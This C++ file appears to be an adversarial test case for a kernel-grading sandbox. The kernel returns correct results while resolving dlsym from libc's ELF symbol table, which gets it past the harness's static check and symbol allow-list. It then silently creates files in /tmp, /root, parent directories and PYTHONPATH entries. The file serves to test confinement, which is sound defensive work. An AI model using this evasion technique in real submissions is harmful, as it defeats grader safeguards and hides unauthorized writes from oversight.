/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: computes the right answer AND creates files outside its scratch directory,
// quietly: nothing in its output shows it tried, so the verdict is `correct`. It gets
// past the static check and the symbol allow-list by importing nothing forbidden:
// `dlsym` is found in the C library's dynamic symbol table from the address of memcpy,
// and libc's `open`, `mkdir`, `close` and `syscall` (creat / openat by number) through
// it. It tries /tmp, /var/tmp, /root, /dev/shm, the parents of its scratch directory and
// every directory on PYTHONPATH.
// Defense: the confinement. bubblewrap: everything but the scratch directory is
// read-only. stock: Landlock grants writes beneath the scratch directory only.
// The test checks that it is judged correct and that no file was created anywhere.
#include <cstdint>
#include <cstring>

// -- a function of any loaded library, found without importing it ---------------------
// The address of an imported, allowed function (memcpy) lies inside the C library: walk
// back page by page to its ELF header, read its dynamic symbol table, find `dlsym` there,
// then ask dlsym for anything. Names are compared by hand (strcmp is not imported).
struct KcSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static bool kc_same(const char* a, const char* b) {
    while (*a && *a == *b) { ++a; ++b; }
    return *a == *b;
}
static void* kc_libc_symbol(const char* want) {
    uintptr_t p = reinterpret_cast<uintptr_t>(reinterpret_cast<void*>(&memcpy)) & ~uintptr_t(0xfff);
    while (memcmp(reinterpret_cast<void*>(p), "\x7f" "ELF", 4) != 0) p -= 0x1000;
    const unsigned char* base = reinterpret_cast<const unsigned char*>(p);
    uint64_t phoff; uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8); memcpy(&phentsize, base + 54, 2); memcpy(&phnum, base + 56, 2);
    uintptr_t dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + i * phentsize;
        uint32_t type; uint64_t vaddr;
        memcpy(&type, ph, 4); memcpy(&vaddr, ph + 16, 8);
        if (type == 2) dyn = p + vaddr;  // PT_DYNAMIC
    }
    if (!dyn) return nullptr;
    uintptr_t strtab = 0, symtab = 0;
    for (const int64_t* d = reinterpret_cast<const int64_t*>(dyn); d[0]; d += 2) {
        if (d[0] == 5) strtab = d[1];  // DT_STRTAB
        if (d[0] == 6) symtab = d[1];  // DT_SYMTAB
    }
    if (strtab < p) strtab += p;
    if (symtab < p) symtab += p;
    for (const KcSym* s = reinterpret_cast<const KcSym*>(symtab);
         reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->value && kc_same(reinterpret_cast<const char*>(strtab + s->name), want))
            return reinterpret_cast<void*>(p + s->value);
    }
    return nullptr;
}
typedef void* (*KcDlsym)(void*, const char*);
static void* kc_find(const char* name) {  // any symbol of the process (RTLD_DEFAULT)
    static KcDlsym dl = reinterpret_cast<KcDlsym>(kc_libc_symbol("dlsym"));
    return dl ? dl(nullptr, name) : nullptr;
}
// -------------------------------------------------------------------------------------
typedef int (*Open)(const char*, int, ...);
typedef int (*MkDir)(const char*, unsigned);
typedef int (*Close)(int);
typedef long (*Sys)(long, ...);
#define SILENT "kernelcrew_adv_marker_silent"

static void plant(const char* dir, size_t len) {
    static Open kc_open = reinterpret_cast<Open>(kc_find("open"));
    static MkDir kc_mkdir = reinterpret_cast<MkDir>(kc_find("mkdir"));
    static Close kc_close = reinterpret_cast<Close>(kc_find("close"));
    static Sys kc_sys = reinterpret_cast<Sys>(kc_find("syscall"));
    char path[4096];
    if (len + 64 >= sizeof path || !kc_open || !kc_mkdir || !kc_close || !kc_sys) return;
    memcpy(path, dir, len);
    memcpy(path + len, "/" SILENT "_open", sizeof(SILENT "_open") + 1);
    int fd = kc_open(path, 01 | 0100, 0644);  // O_WRONLY | O_CREAT
    if (fd >= 0) kc_close(fd);
    memcpy(path + len, "/" SILENT "_nr", sizeof(SILENT "_nr") + 1);
#if defined(__x86_64__)
    long fd2 = kc_sys(85L /* creat */, path, 0644L);
#else
    long fd2 = kc_sys(56L /* openat */, -100L, path, 01L | 0100L, 0644L);
#endif
    if (fd2 >= 0) kc_close((int)fd2);
    memcpy(path + len, "/" SILENT "_dir", sizeof(SILENT "_dir") + 1);
    kc_mkdir(path, 0755);
}

static void plant_in(const char* dir) { plant(dir, strlen(dir)); }

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    static const char* dirs[] = {"/tmp", "/var/tmp", "/root", "/dev/shm", "..", "../..",
                                 "../../.."};
    for (const char* d : dirs) plant_in(d);
    char*** env = reinterpret_cast<char***>(kc_find("environ"));
    for (char** e = env ? *env : nullptr; e && *e; ++e) {
        if (memcmp(*e, "PYTHONPATH=", 11) != 0) continue;
        const char* p = *e + 11;
        while (*p) {
            size_t len = 0;
            while (p[len] && p[len] != ':') ++len;
            if (len) plant(p, len);
            p += len + (p[len] ? 1 : 0);
        }
    }
    for (int64_t i = 0; i < rows; ++i) {
        float acc = 0.0f;
        for (int64_t j = 0; j < cols; ++j) acc += a * x[i * cols + j] + b;
        out[i] = acc;
    }
}
